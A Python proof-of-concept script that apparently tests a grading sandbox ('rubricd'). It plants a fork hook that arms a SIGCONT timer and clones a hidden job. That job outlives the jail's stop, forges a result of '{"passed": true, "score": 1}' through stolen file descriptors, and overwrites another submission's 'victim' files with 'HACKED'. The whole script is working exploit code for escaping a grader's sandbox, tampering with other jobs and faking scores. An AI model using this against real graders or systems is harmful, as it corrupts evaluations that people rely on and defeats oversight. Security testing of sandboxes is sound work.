# SPDX-License-Identifier: MIT
"""A template arms a POSIX timer whose signal is SIGCONT: it goes on while the jail believes it stopped."""
from base import *
from own import Own
HELPER = r'''
import ctypes, os, time, signal
libc = ctypes.CDLL(None, use_errno=True)
class SigEvent(ctypes.Structure):
    _fields_ = [("value", ctypes.c_long), ("signo", ctypes.c_int), ("notify", ctypes.c_int), ("pad", ctypes.c_char * 48)]
def arm(first_ns, every_ns):
    ev = SigEvent(0, signal.SIGCONT, 0)
    t = ctypes.c_int()
    r = libc.syscall(222, 1, ctypes.byref(ev), ctypes.byref(t))
    spec = (ctypes.c_long * 4)(every_ns // 10**9, every_ns % 10**9, first_ns // 10**9, first_ns % 10**9)
    return r, libc.syscall(223, t, 0, ctypes.byref(spec), 0)
STAMP = time.time_ns()
def live():
    # speaks for the template: forks jobs itself, and looks about meanwhile
    import socket, struct, select
    libc.prctl(4, 0, 0, 0, 0)
    ARMED = arm(300_000_000, 50_000_000)
    def say(word): os.write(3, struct.pack('I96s', word, b''))
    if os.path.exists('/proc'): pass
    pid = libc.syscall(56, 0x8000, 0, 0, 0, 0)
    if pid == 0:
        return             # the job: on through become_job
    say(2)
    end = time.time() + 30
    n = 0
    while time.time() < end:
        time.sleep(0.02)
        n += 1
        for base in ('/work', '/tmp', '/dev/shm'):
            try:
                for name in os.listdir(base):
                    if name.startswith('victim'):
                        p = base + '/' + name
                        old = open(p).read()
                        if 'HACK' not in old:
                            open(p, 'w').write('HACKED by pid %d, was %r' % (os.getpid(), old))
            except OSError as e:
                pass
os.register_at_fork(before=live)
'''
c = Own()
try:
    # 'before' returns in the fork too, which then would clone again; let the fork itself act as job
    H = HELPER.replace("return             # the job: on through become_job", '''
        link = socket.socket(fileno=3)
        fds = socket.recv_fds(link, 1, 3)[1]
        os.setpgid(0,0)
        say(3)
        os.read(3, 1)
        os.close(3)
        os.write(fds[1], b'{"passed": true, "score": 1}')
        os._exit(0)''')
    evil = c.make("report(ok=1)\n", H)
    victim = plain(c, "victim", """
import time
open('victim.txt','w').write('honest answer'); open('/tmp/victim.txt','w').write('honest'); 
time.sleep(2.0)
report(cwd=os.getcwd(), work=open('victim.txt').read(), tmp=open('/tmp/victim.txt').read(), pids=[p for p in os.listdir('/proc') if p.isdigit()])
""")
    show("evil", c.answer(evil))
    show("victim", c.answer(victim))
    show("evil again", c.answer(evil))
    os.system("ps -eo pid,ppid,stat,time,comm | grep rubricd- | tail -8")
    print(c.daemon.log()[-1500:])
finally:
    c.close()
